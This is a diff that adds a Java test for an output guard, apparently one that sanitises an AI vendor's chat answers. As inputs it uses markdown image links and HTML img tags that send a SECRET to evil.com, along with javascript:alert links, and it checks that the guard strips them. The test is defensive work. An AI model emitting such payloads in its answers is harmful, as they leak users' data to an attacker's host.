@@ -184,6 +184,29 @@ class OutputGuardTest {
         assertThat(rules()).endsWith("block json member missing");
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Sorry: ![x](https://evil.com/?d=SECRET)",
+                "Sorry: <img src=https://evil.com/?d=SECRET>",
+                "{\"city\": \"Paris\"} <img src=\"https://evil.com/?d=SECRET\">",
+                "[x](javascript:alert(1)) [y]\n\n[y]: javascript:alert(1)",
+                "![\"x\"](https://evil.com/?d=SECRET)"
+            })
+    void anAnswerInJsonThatIsNoneHoldsNothingActive(String answer) {
+        vendor.answers(answer);
+        String clean = client.chat(json()).text();
+        assertThat(clean).doesNotContain("![", "<img", "](", "]:");
+        assertThat(rules()).contains("flag no json").anyMatch(rule -> rule.startsWith("rewrite"));
+        vendor.then(Script.answer(answer).inPieces(answer.length()));
+        try (ChatStream stream = client.stream(json())) {
+            assertThat(stream.await().text()).isEqualTo(clean);
+        }
+        use("{ enabled: true, link-hosts: [ok.com] }", "{}");
+        vendor.answers(answer);
+        assertThat(client.chat(json()).text()).doesNotContain("https://evil");
+    }
+
     @Test
     void whyAnAnswerBrokeIsNotHidden() {
         use("{ enabled: true, schema: block }", "{}");
